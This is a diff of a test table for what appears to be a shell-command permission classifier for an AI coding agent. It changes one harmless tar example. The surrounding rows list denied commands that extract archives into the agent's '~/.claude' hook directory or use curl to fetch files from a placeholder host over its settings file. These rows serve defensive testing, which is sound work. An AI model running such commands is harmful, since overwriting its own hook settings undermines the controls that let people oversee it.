@@ -444,7 +444,7 @@ W = [
     ("tar -xf a.tar -C ~/.claude", D, D, "tar -C into the hook settings dir"),
     ("tar --directory={mnt}/sessions/main/inbox -xf a.tar", D, D, "tar --directory= into the inbox"),
     ("tar -cf .claude/settings.json README.md", D, D, "tar -f names the archive it writes"),
-    ("tar -czf out.tgz src", Q, A, "tar -f in the cwd"),
+    ("tar -cf out.tar src", Q, A, "tar -f in the cwd"),
     ("tar -tf a.tar", Q, A, "tar -t only reads"),
     ("curl -o ~/.claude/settings.json http://x.invalid/s", D, D, "curl -o"),
     ("curl --output=" + INBOX + " http://x.invalid/a", D, D, "curl --output="),
